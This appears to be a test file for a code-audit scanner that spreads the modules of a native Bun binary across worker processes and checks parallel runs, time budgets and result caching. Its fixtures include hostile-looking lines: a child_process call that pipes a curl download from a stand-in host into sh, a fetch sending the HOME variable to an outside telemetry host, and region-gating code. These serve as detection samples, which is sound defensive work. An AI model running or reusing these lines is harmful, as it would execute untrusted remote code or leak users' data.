// A native binary's embedded modules shared out among the pool's workers: the result is the
// one a one-worker run gives (findings, errors, the binary's module list, counts), a module over
// its time budget costs only itself, and the result cache reuses whole binaries and modules.
import * as assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import type { TargetSpec } from '../../src/core/model';
import { auditTargets, auditTargetsInParallel, selectRules, type ModuleTask } from '../../src/core/audit';
import { defaultBudgetMs, ScanPool } from '../../src/core/worker/pool';
import { batchModules } from '../../src/core/scan/binary';
import { tempTree } from '../helpers/tempTree';
import { appendedBun, bunGraph, elf, type BunModuleSpec } from '../helpers/nativeFixtures';

const WORKER = path.resolve('dist/worker.js');
const CLI = path.resolve('dist/cli.js');
const GATE = 'function f(){let h=new URL(process.env.OPENAI_BASE_URL).hostname,t=Intl.DateTimeFormat().resolvedOptions().timeZone;return t==="Asia/Shanghai"||h.includes("deepseek")}\n';
const EXEC = 'require("child_process").execSync("curl -s https://x.example/i.sh | sh");\n';
const TELEMETRY = 'fetch("https://telemetry.example.com/v1/collect",{method:"POST",body:JSON.stringify({home:process.env.HOME})});\n';

/** Ordinary code of about `kb` KB, with a finding or not. */
function code(kb: number, tail = ''): string {
  const unit = 'function g$(){return process.env.HOME_$+[1,2,3].map(x=>x*2).join(",")}\n';
  return Array.from({ length: Math.ceil((kb * 1024) / unit.length) }, (_, i) => unit.replace(/\$/g, String(i))).join('') + tail;
}

/** A Bun graph like Claude Code's in small: a few large modules, many small ones, a source map reference, a non-JS file. */
function modules(variant = ''): BunModuleSpec[] {
  const small = Array.from({ length: 40 }, (_, i): BunModuleSpec => ({ name: `/$bunfs/root/node_modules/p${i}/index.js`, text: code(30, i % 7 === 0 ? GATE : i % 5 === 0 ? EXEC : '') }));
  return [
    { name: '/$bunfs/root/cli.js', text: code(400, GATE + TELEMETRY + '//# sourceMappingURL=cli.js.map\n') },
    { name: '/$bunfs/root/cli.js.map', text: '{"version":3}', loader: 5 },
    { name: '/$bunfs/root/worker.js', text: code(200, EXEC + variant) },
    ...small,
    { name: '/$bunfs/root/vendor/big.js', text: code(900, TELEMETRY + GATE) },
    { name: '/$bunfs/root/tiny.js', text: GATE },
  ];
}

const spec = (root: string): TargetSpec => ({ id: 'bun-tool', name: 'bun-tool', kind: 'path', root });
const folder = (files: Record<string, string | Buffer>) => tempTree(files, 'ata-split-');
const json = (v: unknown) => JSON.parse(JSON.stringify(v));

async function inPool(specs: TargetSpec[], options: { size: number; cacheDir?: string; budgetMs?: (f: { rel: string; size: number }) => number; tasks?: ModuleTask[] }) {
  const rules = {};
  const pool = new ScanPool(WORKER, { size: options.size, maxWorkerMb: 2048, budgetMs: options.budgetMs ?? defaultBudgetMs, rules, ...(options.cacheDir ? { cacheDir: options.cacheDir } : {}) });
  try {
    const scanners = pool.scanners();
    const results = await auditTargetsInParallel(specs, {
      selection: selectRules(rules),
      ...scanners,
      scanModules: task => {
        options.tasks?.push(task);
        return scanners.scanModules!(task);
      },
    });
    return { results, stats: { ...pool.stats }, notes: pool.notes };
  } finally {
    await pool.close();
  }
}

describe("a binary's modules shared out among the pool's workers", function () {
  this.timeout(180_000);

  it('batches small modules together (each batch in listing order) and keeps large ones alone', () => {
    const sizes = [200_000, 1000, 2000, 70_000, ...Array.from({ length: 30 }, () => 60_000), 5];
    const batches = batchModules(sizes.map(size => ({ size })));
    assert.deepEqual([...batches.flat()].sort((a, b) => a - b), sizes.map((_, k) => k), 'every module once');
    assert.deepEqual(batches[0], [0]);
    assert.deepEqual(batches[1], [3]);
    assert.deepEqual(batches[2].slice(0, 3), [1, 2, 4]);
    for (const b of batches) if (b.length > 1) assert.ok(b.reduce((n, k) => n + sizes[k], 0) <= 1024 * 1024);
  });

  it('gives exactly the result of a one-worker run, with the modules scanned as separate tasks', async () => {
    const dir = folder({ 'bin/tool': appendedBun(elf(), bunGraph(modules())), 'index.js': GATE, 'package.json': '{"name":"n","version":"1.0.0"}' });
    const one = auditTargets([spec(dir)]);
    const tasks: ModuleTask[] = [];
    const { results: two } = await inPool([spec(dir)], { size: 2, tasks });
    assert.ok(tasks.length >= 4, `the modules went out as ${tasks.length} tasks`);
    assert.ok(tasks.some(t => t.modules.length > 1), 'small modules in batches');
    assert.ok(one[0].findings.filter(f => f.file === 'bin/tool').length > 10, 'findings in the binary');
    assert.ok(one[0].binaries?.[0].modules.some(m => m.sourceMap?.kind === 'reference' && m.sourceMap.shipped), 'a shipped source map reference');
    assert.deepEqual(json(two), json(one));
  });

  it('is what the CLI prints: --jobs 2 gives the JSON of --jobs 1', () => {
    const dir = folder({ 'bin/tool': appendedBun(elf(), bunGraph(modules())), 'lib/a.js': EXEC });
    const run = (...args: string[]) => spawnSync(process.execPath, [CLI, 'scan', dir, '--json', '--no-cache', ...args], { encoding: 'utf8', maxBuffer: 1 << 26 });
    const one = run('--jobs', '1');
    const two = run('--jobs', '2');
    assert.equal(one.status, 0, one.stderr);
    assert.equal(two.status, 0, two.stderr);
    const targets = (out: string) => JSON.parse(out).targets;
    assert.ok(targets(one.stdout)[0].findings.length > 10);
    assert.deepEqual(targets(two.stdout), targets(one.stdout));
  });

  it('records a module over its time budget and reports the rest of the binary', async () => {
    const mods = modules();
    const big = mods.find(m => m.name.endsWith('big.js'))!;
    const bigSize = Buffer.byteLength(big.text!, 'latin1');
    const dir = folder({ 'bin/tool': appendedBun(elf(), bunGraph(mods)) });
    const { results } = await inPool([spec(dir)], { size: 2, budgetMs: f => (f.size === bigSize ? 1 : 60_000) });
    const [result] = results;
    assert.deepEqual(
      result.errors.map(e => [e.file, e.entry]),
      [['bin/tool', '/$bunfs/root/vendor/big.js']],
    );
    assert.match(result.errors[0].message, /^not scanned: over its time budget/);
    assert.ok(!result.findings.some(f => f.entry === '/$bunfs/root/vendor/big.js'));
    assert.ok(result.findings.some(f => f.entry === '/$bunfs/root/tiny.js' && f.ruleId === 'region-gating'));
    assert.equal(result.binaries?.[0].modules.length, mods.length, 'the module list is whole');
    assert.equal(result.filesScanned, 1);
  });

  it('reuses a cached binary whole, and the unchanged modules of a changed one', async () => {
    const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-split-cache-'));
    try {
      const dir = folder({ 'bin/tool': appendedBun(elf(), bunGraph(modules())) });
      const cold = await inPool([spec(dir)], { size: 2, cacheDir });
      assert.equal(cold.stats.hits, 0);
      assert.ok(cold.stats.moduleMisses > 40);
      const warm = await inPool([spec(dir)], { size: 2, cacheDir });
      assert.deepEqual(warm.stats, { hits: 1, misses: 0, moduleHits: 0, moduleMisses: 0 }, 'the whole binary from one entry');
      assert.deepEqual(json(warm.results), json(cold.results));
      // A new release with one module changed: only that one is scanned again.
      fs.writeFileSync(path.join(dir, 'bin/tool'), appendedBun(elf(), bunGraph(modules(GATE))));
      const next = await inPool([spec(dir)], { size: 2, cacheDir });
      assert.equal(next.stats.moduleMisses, 1);
      assert.equal(next.stats.moduleHits, cold.stats.moduleMisses - 1);
      assert.deepEqual(json(next.results), json(auditTargets([spec(dir)])));
      assert.deepEqual(next.notes, []);
    } finally {
      fs.rmSync(cacheDir, { recursive: true, force: true });
    }
  });

  it('after an update that changed one rule, scans again only the modules that rule ran on', async () => {
    const cacheDir = fs.mkdtempSync(path.join(os.tmpdir(), 'ata-split-cache-'));
    try {
      const dir = folder({ 'bin/tool': appendedBun(elf(), bunGraph(modules())) });
      const cold = await inPool([spec(dir)], { size: 2, cacheDir });
      const entries = walkFiles(cacheDir).map(file => ({ file, entry: JSON.parse(fs.readFileSync(file, 'utf8')) }));
      const modulesRan = entries.filter(e => e.entry.outcome.filesScanned === undefined && e.entry.outcome.rulesRun.includes('child-process')).length;
      assert.ok(modulesRan > 0 && modulesRan < cold.stats.moduleMisses, `${modulesRan} of ${cold.stats.moduleMisses} modules ran child-process`);
      for (const { file, entry } of entries) {
        entry.rules['child-process'].build = 'earlier';
        fs.writeFileSync(file, JSON.stringify(entry));
      }
      const after = await inPool([spec(dir)], { size: 2, cacheDir });
      assert.deepEqual(after.stats, { hits: 0, misses: 1, moduleHits: cold.stats.moduleMisses - modulesRan, moduleMisses: modulesRan }, 'the whole binary says nothing of the rules that ran: listed again, its modules looked up');
      assert.deepEqual(json(after.results), json(cold.results));
    } finally {
      fs.rmSync(cacheDir, { recursive: true, force: true });
    }
  });
});

function walkFiles(dir: string): string[] {
  return fs.readdirSync(dir, { withFileTypes: true }).flatMap(e => (e.isDirectory() ? walkFiles(path.join(dir, e.name)) : e.name.endsWith('.json') ? [path.join(dir, e.name)] : []));
}
